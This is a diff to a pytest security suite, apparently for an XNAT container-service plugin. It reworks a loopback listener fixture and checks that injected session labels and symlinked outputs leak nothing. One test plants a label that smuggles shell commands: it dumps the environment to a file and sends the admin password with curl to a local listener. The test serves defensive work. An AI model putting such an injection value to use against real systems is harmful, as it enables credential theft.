@@ -14,6 +14,7 @@ import json
 import socket
 import threading
 from collections.abc import Iterator
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import pytest
@@ -35,10 +36,15 @@ def outside(tmp_path: Path) -> Path:
     return folder
 
 
+@dataclass
+class Listener:
+    port: int
+    received: list[bytes] = field(default_factory=list)
+
+
 @pytest.fixture
-def listener() -> Iterator[list[bytes]]:
-    """A loopback TCP port that records what anyone sends it (`listener.port`)."""
-    received: list[bytes] = []
+def listener() -> Iterator[Listener]:
+    """A loopback TCP port that records what anyone sends it."""
     server = socket.socket()
     server.bind(("127.0.0.1", 0))
     server.listen()
@@ -58,10 +64,11 @@ def listener() -> Iterator[list[bytes]]:
                 except OSError:
                     received.append(b"(connected)")
 
+    found = Listener(server.getsockname()[1])
+    received = found.received
     thread = threading.Thread(target=serve, daemon=True)
     thread.start()
-    received.port = server.getsockname()[1]  # type: ignore[attr-defined]
-    yield received
+    yield found
     stop.set()
     thread.join(timeout=5)
     server.close()
@@ -118,13 +125,13 @@ def test_xnats_own_input_filter_still_refuses_its_strings(site: Site, illegal: s
 
 
 def test_a_stored_session_label_does_not_run_when_an_admin_launches(
-    site: Site, outside: Path, tmp_path: Path, listener: list[bytes]
+    site: Site, outside: Path, tmp_path: Path, listener: Listener
 ) -> None:
     """A label reaches the command line as a derived input (`derived-from-xnat-object-property:
     label`); the admin's token must stay inside the job."""
     session = site.project_with_session("LIVER")
     command_id = site.install(["LIVER"])
-    port = listener.port  # type: ignore[attr-defined]
+    port = listener.port
     site.set_session_label(
         "LIVER", f"S1|env>{outside}/leaked-env.txt|curl -s -d $XNAT_PASS 127.0.0.1:{port} #"
     )
@@ -138,7 +145,7 @@ def test_a_stored_session_label_does_not_run_when_an_admin_launches(
     container = site.wait(report)
     assert container["id"], container  # the job ran with the label on its command line
     assert list(outside.iterdir()) == []
-    assert listener == []
+    assert listener.received == []
     assert site.files_holding_a_secret(tmp_path) == []
 
 
@@ -278,8 +285,8 @@ def test_an_output_holding_a_link_to_a_host_file_uploads_nothing(site: Site, out
     history = json.dumps(container["history"])
     assert "QC/host-file.txt is a symbolic link" in history
     assert site.assessors("LIVER") == ["SUBJ001_CT1_manual_SEG"]  # not even the assessor
-    archive = Path(site.server.data_dir)
-    assert not [p for p in archive.rglob("*") if p.is_file() and b"private data" in p.read_bytes()]
+    stored = [p for p in Path(site.server.data_dir).rglob("*") if not p.is_symlink()]
+    assert not [p for p in stored if p.is_file() and b"private data" in p.read_bytes()]
     listing = requests.get(
         f"{site.url}/data/experiments/{session}/assessors", auth=site.admin(), timeout=30
     )
